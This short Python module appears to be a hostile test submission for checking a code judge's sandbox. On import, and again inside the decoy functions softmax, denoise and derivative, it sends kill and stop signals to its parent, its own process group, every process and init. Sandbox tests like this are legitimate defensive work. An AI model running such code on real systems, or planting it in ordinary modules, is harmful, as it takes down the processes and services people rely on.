"""Sends signals to the judge, the zygote, its group and everybody."""

import os
import signal

LEVELS = ("strict",)  # a namespace of its own is what keeps these from anybody else


def shoot():
    for target in (os.getppid(), 0, -1, 1, 2, 3):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGALRM):
            if target == os.getpid():
                continue
            try:
                os.kill(target, number)
            except OSError:
                pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass


shoot()


def softmax(x):
    shoot()
    return x


mean_and_variance = denoise = softmax


def derivative(f, x):
    shoot()
    return f(x)
